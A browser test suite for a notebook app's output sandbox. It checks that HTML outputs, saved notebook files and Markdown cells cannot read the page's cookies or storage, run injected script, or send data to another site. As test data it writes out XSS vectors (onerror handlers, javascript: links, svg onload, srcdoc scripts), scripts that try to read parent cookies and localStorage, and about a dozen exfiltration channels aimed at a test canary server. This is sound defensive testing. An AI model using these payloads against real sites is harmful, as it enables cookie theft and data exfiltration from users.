import type { ForeignServer } from "./foreign.ts";
import type { NotebookPage } from "./notebook.ts";
import { expect, savingTest, test } from "./test.ts";

// Attacks are blocked, which the browser logs to the console.
test.use({ allowedErrors: /.*/s });

/** Ways to send data out of an output. None may lead to a request to the other site. */
const CHANNELS: Readonly<Record<string, (canary: string) => string>> = {
  fetch: (url) => `fetch("${url}").catch(() => {})`,
  image: (url) => `new Image().src = "${url}"`,
  style: (url) => `document.body.style.background = "url(${url})"`,
  script: (url) => `document.body.append(Object.assign(document.createElement("script"), { src: "${url}" }))`,
  beacon: (url) => `navigator.sendBeacon("${url}")`,
  events: (url) => `new EventSource("${url}")`,
  socket: (url) => `new WebSocket("${url.replace("http", "ws")}")`,
  prefetch: (url) =>
    `document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "${url}" }))`,
  frame: (url) => `document.body.append(Object.assign(document.createElement("iframe"), { src: "${url}" }))`,
  form: (url) => `const f = document.createElement("form"); f.action = "${url}"; document.body.append(f); f.submit()`,
  popup: (url) => `window.open("${url}")`,
  top: (url) => `top.location = "${url}"`,
  self: (url) => `setTimeout(() => location = "${url}", 300)`,
};

test("an HTML output cannot reach the page, its cookies or its storage, and printed HTML is text", async ({
  page,
  notebook,
}) => {
  await page.evaluate(() => {
    document.cookie = "secret=crumb";
    localStorage.setItem("secret", "kept");
  });
  await notebook.run(
    1,
    html(`
      <pre id="report"></pre>
      <script>
        const tries = {
          cookie: () => parent.document.cookie,
          ownCookie: () => document.cookie,
          storage: () => localStorage.getItem("secret"),
          parentStorage: () => parent.localStorage.getItem("secret"),
          page: () => parent.document.body.innerHTML.length,
          database: () => indexedDB.open("x").result,
        };
        const report = Object.entries(tries).map(([name, attempt]) => {
          try { return name + "=" + attempt(); } catch (error) { return name + " refused"; }
        });
        document.getElementById("report").textContent = report.join(", ");
      </script>`),
  );
  const report = notebook.output(1).locator("iframe").contentFrame().locator("#report");
  await expect(report).toContainText("cookie refused");
  const text = await report.textContent();
  expect(text).not.toMatch(/crumb|kept|page=\d/);
  await expect(await notebook.run(2, "print('<b onclick=\"x\">not bold</b>')")).toHaveText(
    '<b onclick="x">not bold</b>',
  );
});

test("an HTML output cannot send anything to another site", async ({ notebook, foreign }) => {
  const scripts = Object.entries(CHANNELS).map(([name, code]) => `try { ${code(foreign.canary(name))} } catch {}`);
  // The last channel fires after all others, and its refusal is reported.
  const output = await notebook.run(1, html(`<p>shown</p><script>${scripts.join("\n")}</script>`));
  await expect(output).toContainText("tried to open another page");
  await showAnotherOutput(notebook);
  expect(hits(foreign)).toEqual({});
  await expect(notebook.main).toBeVisible();
});

test("an output loads from hosts that the user allows and no others, and a nested map's hosts are asked for", async ({
  notebook,
  foreign,
}) => {
  const { host } = new URL(foreign.origin);
  const other = foreign.canary("beacon").replace("foreign.", "other.");
  await notebook.run(
    1,
    html(`
      <img src="${foreign.canary("image")}"><p>shown</p>
      <script>
        fetch("${foreign.canary("fetch")}").then((answer) => answer.text()).then((text) => document.body.append(text));
        document.body.addEventListener("click", () => {
          new Image().src = "${other}"; fetch("${other}"); navigator.sendBeacon("${other}");
        });
      </script>`),
  );
  const ask = notebook.output(1).getByText(/This output wants to load from/);
  await expect(ask).toContainText(host);
  expect(hits(foreign)).toEqual({});
  await notebook.output(1).getByRole("button", { name: "Allow this output to load" }).click();
  await expect(notebook.output(1).frameLocator("iframe").locator("body")).toContainText("noted");
  expect(foreign.hits("image")).toBeGreaterThan(0);
  await notebook.output(1).frameLocator("iframe").locator("body").click();
  // The other host is now listed by itself.
  await expect(ask).toContainText(host.replace("foreign.", "other."));
  expect(foreign.hits("beacon")).toBe(0);

  const map = `<script src='https://cdn.example/leaflet.js'></script><script>tiles('https://{s}.tile.example/{z}/{x}/{y}.png')</script>`;
  const nested = await notebook.run(2, html(`<iframe srcdoc="${map.replaceAll("<", "&lt;")}"></iframe>`));
  await expect(nested).toContainText("cdn.example, a.tile.example, b.tile.example, c.tile.example");
});

savingTest(
  "saved outputs that look like charts, players and formulas cannot call home or reach the page",
  async ({ page, notebook, foreign }) => {
    await page.evaluate(() => Object.assign(window, { attacked: 0 }));
    const library = foreign.canary("script").replace(/^https?:\/\/[^/]+/, (origin) => `${origin}/npm/vega@5`);
    const markup = `
      <p id="done"></p>
      <iframe src="javascript:parent.attacked++"></iframe>
      <iframe src="${foreign.canary("frame")}" title='<img src=x onerror="parent.attacked++">'></iframe>
      <p>$\\href{javascript:top.attacked++}{x}$ $\\includegraphics{${foreign.canary("image")}}$</p>
      <script src="${library}"></script>
      <script>
        const vegaScript = document.createElement("script");
        vegaScript.onload = () => vegaEmbed(document.body.appendChild(document.createElement("div")), {
          data: { url: "${foreign.canary("fetch")}" }, mark: "point", usermeta: { embedOptions: { loader: {} } },
        }, { loader: {}, ast: false }).catch(() => {}).finally(() => { done.textContent = "tried"; });
        vegaScript.src = "https://cdn.jsdelivr.net/npm/vega-embed@6";
      </script>`;
    const outputs = [
      { output_type: "display_data", metadata: {}, data: { "text/html": markup, "image/png": '"><script>' } },
    ];
    const cells = [{ id: "hostile", cell_type: "code", metadata: {}, execution_count: 1, source: "x", outputs }];
    const file = JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
    await notebook.main.evaluate((main, text) => {
      const data = new DataTransfer();
      data.items.add(new File([text], "hostile.ipynb", { type: "application/json" }));
      main.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
    }, file);
    const frame = notebook.main.locator('[data-cell-id="hostile"] iframe').contentFrame();
    await expect(frame.locator("#done")).toHaveText("tried");
    await expect(frame.locator("iframe, a[href^='javascript:'], .fiddle-player img, [onerror]")).toHaveCount(0);
    await expect(frame.locator("math").first()).toBeAttached();
    expect(hits(foreign)).toEqual({});
    expect(await page.evaluate(() => (window as unknown as { attacked: number }).attacked)).toBe(0);
  },
);

test("an output cannot give itself hosts by going to an address that names them", async ({ notebook, foreign }) => {
  const { host } = new URL(foreign.origin);
  const go = `setTimeout(() => location = "/kernel/output?hosts=${host}", 500)`;
  const output = await notebook.run(1, html(`<img src="${foreign.canary("image")}"><script>${go}</script>`));
  await expect(output).toContainText("tried to open another page");
  await showAnotherOutput(notebook);
  expect(hits(foreign)).toEqual({});
});

savingTest("Markdown is shown without anything that could run or call home", async ({ page, notebook, foreign }) => {
  await page.evaluate(() => Object.assign(window, { attacked: 0 }));
  const attack = [
    '<img src="x" onerror="attacked++">',
    "<script>attacked++</script>",
    "[link](javascript:attacked++)",
    '<a href="javascript:attacked++">raw link</a>',
    '<svg onload="attacked++"></svg>',
    '<iframe srcdoc="<script>parent.attacked++</script>"></iframe>',
    `<form action="${foreign.canary("image")}"><button>press</button></form>`,
    `<style>* { background: url(${foreign.canary("style")}) }</style>`,
    "**safe**",
  ].join("\n\n");
  await notebook.write(1, attack);
  await page.keyboard.press("Escape");
  await page.keyboard.press("m");
  await page.keyboard.press("Shift+Enter");
  await expect(notebook.cell(1).getByText("safe")).toBeVisible();
  const found = await notebook.cell(1).evaluate((cell) => ({
    handlers: cell.querySelectorAll("[onerror], [onload], script, iframe, form").length,
    links: cell.querySelectorAll('a[href^="javascript:"]').length,
    attacked: (window as unknown as { attacked: number }).attacked,
  }));
  expect(found).toEqual({ handlers: 0, links: 0, attacked: 0 });
  expect(hits(foreign)).toEqual({});
});

/** Once a second frame has loaded and run its script, the requests that the first one began have arrived. */
async function showAnotherOutput(notebook: NotebookPage): Promise<void> {
  await notebook.run(2, html("<p id='late'></p><script>late.textContent = 'second'</script>"));
  await expect(notebook.output(2).frameLocator("iframe").getByText("second")).toBeVisible();
}

function html(markup: string): string {
  return `class Html:\n    def _repr_html_(self): return ${JSON.stringify(markup)}\nHtml()`;
}

function hits(foreign: ForeignServer): Record<string, number> {
  return Object.fromEntries(
    Object.keys(CHANNELS)
      .map((name) => [name, foreign.hits(name)] as const)
      .filter(([, count]) => count > 0),
  );
}
